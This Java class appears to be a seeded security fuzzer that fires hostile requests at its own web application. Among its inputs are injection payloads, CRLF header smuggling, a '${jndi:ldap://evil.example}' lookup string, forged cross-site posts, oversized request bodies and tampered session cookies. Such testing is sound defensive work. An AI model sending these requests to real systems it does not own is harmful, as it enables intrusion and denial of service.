package vn.sohoi.access.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;
import static vn.sohoi.access.hostile.Hostile.FORM;
import static vn.sohoi.access.hostile.Hostile.get;
import static vn.sohoi.access.hostile.Hostile.post;

import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import vn.sohoi.access.hostile.Hostile.Kind;
import vn.sohoi.web.FormKey;

/** Makes hostile requests by a seed, spread over all handlers of the running application and all who are signed in. */
final class Attack {
    private static final List<String> ENTITY_FIELDS = List.of(
            "roles",
            "approvedBy",
            "unitId",
            "mandate.role",
            "actor.unit",
            "class.module.classLoader.x",
            "version[0]",
            "_method");
    private static final List<String> METHODS = List.of("PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND");
    private static final String EDGE = "evil-edge";

    private final Random random;
    private final List<Route> routes;
    /** Those that no request was aimed at yet, in the seed's order. */
    private final List<Route> left;

    private final Ground ground;
    private final int listener;

    Attack(long seed, List<Route> routes, Ground ground, int listener) {
        this.random = new Random(seed);
        this.routes = routes;
        left = new ArrayList<>(routes);
        Collections.shuffle(left, random);
        // kinds that aim into a field or a place pass these by, so whoever takes any route begins with them
        left.sort(Comparator.comparing(
                route -> !route.fields().isEmpty() || !route.places().isEmpty()));
        this.ground = ground;
        this.listener = listener;
    }

    List<Route> left() {
        return left;
    }

    Hostile next(Kind kind) {
        return switch (kind) {
            case SQL -> inField(kind, one(Payloads.SQL));
            case MARKUP -> inField(kind, one(Payloads.MARKUP));
            case ADDRESSES -> inField(kind, one(Payloads.addresses(listener)));
            case IDENTITIES -> inPlace();
            case NUMBERS -> inQuery();
            case MASS_ASSIGNMENT -> withOneFieldMore();
            case HEADERS -> get(kind, one(ground.logins()), one(List.of("/", "/hoi-vien", "/dang-nhap")), header());
            case PATHS -> random.nextInt(3) > 0 ? get(kind, one(ground.logins()), one(Payloads.PATHS)) : fileNamed();
            case CROSS_SITE -> forged();
            case ENCODINGS -> encoded();
            case BOMBS -> bomb();
            case SESSIONS -> session();
            case REPLAYS -> replay();
        };
    }

    /** Into one field or place of any handler, and the rest as a hasty person leaves it. */
    private Hostile inField(Kind kind, String payload) {
        var route = some(any -> true);
        var login = one(ground.logins());
        var places = route.places();
        if (route.fields().isEmpty() && !places.isEmpty()) {
            var aimed = one(places);
            var target = route.at(place -> place.equals(aimed) ? payload : ground.place(place, random));
            return route.writes() ? post(kind, login, target, form(login, Map.of()), false) : get(kind, login, target);
        }
        var fields = new LinkedHashMap<String, String>();
        route.fields()
                .forEach(field -> fields.put(field, random.nextInt(3) == 0 ? payload : ground.word(field, random)));
        if (!fields.isEmpty()) fields.put(one(route.fields()), payload);
        var target = route.at(place -> ground.place(place, random));
        return route.writes()
                ? post(kind, login, target, form(login, fields), false)
                : get(kind, login, target + "?" + Route.form(fields), "Referer: " + payload.replaceAll("[^ -~]", ""));
    }

    /** Other people's identities and made-up ones in the places of an address. */
    private Hostile inPlace() {
        var route = some(one -> !one.places().isEmpty());
        var login = one(ground.logins());
        UnaryOperator<String> place =
                random.nextBoolean() ? name -> one(Payloads.IDENTITIES) : name -> ground.foreign(name, random);
        var target = route.at(place);
        if (!route.writes()) return get(Kind.IDENTITIES, login, target);
        var fields = new LinkedHashMap<String, String>();
        route.fields().forEach(field -> fields.put(field, ground.word(field, random)));
        return post(Kind.IDENTITIES, login, target, form(login, fields), true);
    }

    private Hostile inQuery() {
        var route = some(one -> !one.writes() && !one.fields().isEmpty());
        var fields = new LinkedHashMap<String, String>();
        route.fields().forEach(field -> fields.put(field, one(Payloads.NUMBERS)));
        return get(
                Kind.NUMBERS,
                one(ground.logins()),
                route.at(place -> ground.place(place, random)) + "?" + Route.form(fields));
    }

    private Hostile withOneFieldMore() {
        var route = some(Route::writes);
        var login = one(ground.logins());
        var fields = new LinkedHashMap<String, String>();
        route.fields().forEach(field -> fields.put(field, ground.word(field, random)));
        fields.put(one(ENTITY_FIELDS), "1");
        return post(
                Kind.MASS_ASSIGNMENT, login, route.at(place -> ground.place(place, random)), form(login, fields), true);
    }

    private String header() {
        return one(List.of(
                "Host: evil.example",
                "Host: evil.example:80\r\nHost: 127.0.0.1",
                "Host: 127.0.0.1@evil.example",
                "X-Forwarded-Host: evil.example",
                "X-Forwarded-For: evil.example\r\nX-Forwarded-Proto: https",
                "Forwarded: for=1.2.3.4;host=evil.example;proto=https",
                "X-Original-URL: /phan-cong",
                "X-Rewrite-URL: /phan-cong",
                "X-HTTP-Method-Override: DELETE",
                "Accept-Language: ../../evil",
                "Accept-Language: " + "vi,".repeat(2_000),
                "Accept: application/evil",
                "Cookie: language=evil.example%0d%0aSet-Cookie:evil=1",
                "Range: bytes=0-0,1-1,2-2,-1",
                "X-Long: " + "x".repeat(60_000),
                "X-Many: 1" + "\r\nX-Many: 1".repeat(300),
                "X-Nul: a\u0000b",
                "Content-Length: -1",
                "Content-Length: 5\r\nContent-Length: 6",
                " folded: x",
                "No-Colon",
                "If-Modified-Since: evil",
                "HX-Request: true\r\nHX-Current-URL: http://evil.example/",
                "Origin: http://evil.example",
                "User-Agent: <evil-x>${jndi:ldap://evil.example}"));
    }

    private Hostile fileNamed() {
        var login = one(ground.logins());
        var name = one(Payloads.FILE_NAMES);
        var part = "--%1$s\r\nContent-Disposition: form-data; name=\"%2$s\"\r\n\r\n%3$s\r\n";
        var body = part.formatted(EDGE, "_csrf", ground.token(login))
                + part.formatted(EDGE, FormKey.FIELD, FormKey.fresh())
                + "--%s\r\nContent-Disposition: form-data; name=\"files\"; filename=\"%s\"\r\n\r\nHọ và tên;Năm sinh\n\r\n--%s--\r\n"
                        .formatted(EDGE, name, EDGE);
        return new Hostile(
                Kind.PATHS,
                login,
                "POST",
                "/nhap",
                List.of("Content-Type: multipart/form-data; boundary=" + EDGE),
                body.getBytes(UTF_8),
                false);
    }

    /** As another site, another person or another kind of program would send it. */
    private Hostile forged() {
        var route = some(Route::writes);
        var login = one(ground.logins());
        var target = route.at(place -> ground.place(place, random));
        var whole = form(login, Map.of());
        return switch (random.nextInt(7)) {
            case 0 -> post(Kind.CROSS_SITE, login, target, FormKey.FIELD + "=" + FormKey.fresh(), true);
            case 1 -> post(Kind.CROSS_SITE, login, target, "_csrf=evil&" + FormKey.FIELD + "=" + FormKey.fresh(), true);
            case 2 -> post(Kind.CROSS_SITE, login, target, form(other(login), Map.of()), true);
            case 3 ->
                post(Kind.CROSS_SITE, login, target, whole, true).with(List.of(FORM, "Sec-Fetch-Site: cross-site"));
            case 4 -> post(Kind.CROSS_SITE, login, target, whole, true).with(List.of("Content-Type: text/plain"));
            case 5 ->
                post(Kind.CROSS_SITE, login, target, "{\"_csrf\":\"x\"}", true)
                        .with(List.of("Content-Type: application/json"));
            default ->
                new Hostile(Kind.CROSS_SITE, login, one(METHODS), target, List.of(FORM), whole.getBytes(UTF_8), true);
        };
    }

    private Hostile encoded() {
        var route = some(one -> !one.fields().isEmpty());
        var login = one(ground.logins());
        var target = route.at(place -> ground.place(place, random));
        boolean bytes = random.nextBoolean();
        var aimed = one(route.fields());
        var value = bytes ? one(Payloads.NOT_UTF8) : Route.encoded(one(Payloads.WORDS));
        if (!route.writes())
            return get(
                    Kind.ENCODINGS,
                    login,
                    target + "?" + aimed + "=" + value.substring(0, Math.min(7_000, value.length())));
        return post(Kind.ENCODINGS, login, target, form(login, Map.of()) + "&" + aimed + "=" + value, false);
    }

    private Hostile bomb() {
        var login = one(ground.logins());
        var target = some(Route::writes).at(place -> ground.place(place, random));
        var whole = form(login, Map.of());
        return switch (random.nextInt(8)) {
            case 0 -> sent(login, target, "application/json", "[".repeat(200_000));
            case 1 -> sent(login, target, "application/xml", "<a>".repeat(100_000));
            case 2 -> post(Kind.BOMBS, login, target, whole + "&x=1".repeat(20_000), true);
            case 3 -> post(Kind.BOMBS, login, target, whole + "&" + "x".repeat(3_000_000) + "=1", true);
            case 4 -> sent(login, target, "multipart/form-data", whole);
            case 5 -> sent(login, target, "multipart/form-data; boundary=" + EDGE, "--" + EDGE + "\r\n");
            case 6 -> sent(login, target, "multipart/form-data; boundary=" + EDGE, parts(2_000));
            default -> post(Kind.BOMBS, login, target, whole + "&a[" + "b][".repeat(5_000) + "]=1", true);
        };
    }

    private static String parts(int many) {
        return "--%s\r\nContent-Disposition: form-data; name=\"x\"; filename=\"x\"\r\n\r\n1\r\n"
                        .formatted(EDGE)
                        .repeat(many)
                + "--" + EDGE + "--\r\n";
    }

    private static Hostile sent(String login, String target, String type, String body) {
        return post(Kind.BOMBS, login, target, body, true).with(List.of("Content-Type: " + type));
    }

    /** The headers bring a cookie of their own: nobody is signed in by it. */
    private Hostile session() {
        var cookie = ground.session(one(ground.logins()));
        var name = cookie.substring(0, cookie.indexOf('=') + 1);
        var value = cookie.substring(name.length());
        var tampered = one(List.of(
                name,
                name + "evil",
                name + value.substring(1),
                name + value.substring(0, value.length() - 1) + (value.endsWith("A") ? "B" : "A"),
                name + new StringBuilder(value).reverse(),
                name + "../../" + value,
                name + value + "%00",
                name + "x".repeat(7_000),
                "Sohoi=" + value,
                name + "' or '1'='1"));
        var asked = one(List.of("/hoi-vien", "/", "/phan-cong", "/nhap"));
        if (random.nextBoolean()) return get(Kind.SESSIONS, "", asked, "Cookie: " + tampered);
        return post(Kind.SESSIONS, "", "/hoi-vien/them", form(one(ground.logins()), Map.of("name", "x")), true)
                .with(List.of(FORM, "Cookie: " + tampered));
    }

    /** A form that did its work already: with other content, by somebody else, or without the key. */
    private Hostile replay() {
        var login = ground.logins().getFirst();
        var used = new LinkedHashMap<>(ground.usedForm());
        used.put("_csrf", ground.token(login));
        switch (random.nextInt(3)) {
            case 0 -> used.put("name", "Evil " + random.nextInt());
            case 1 -> used.remove(FormKey.FIELD);
            default -> used.put(FormKey.FIELD, used.get(FormKey.FIELD) + "0");
        }
        return post(Kind.REPLAYS, login, "/hoi-vien/them", Route.form(used), true);
    }

    private String form(String login, Map<String, String> fields) {
        var all = new LinkedHashMap<>(fields);
        all.put("_csrf", ground.token(login));
        all.put(FormKey.FIELD, FormKey.fresh());
        return Route.form(all);
    }

    private String other(String login) {
        return ground.logins().stream()
                .filter(one -> !one.equals(login))
                .findFirst()
                .orElseThrow();
    }

    /** One that had nothing yet, as long as there is one. */
    private Route some(Predicate<Route> wanted) {
        var fresh = left.stream().filter(wanted).findFirst();
        fresh.ifPresent(left::remove);
        return fresh.orElseGet(() -> one(routes.stream().filter(wanted).toList()));
    }

    private <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }
}
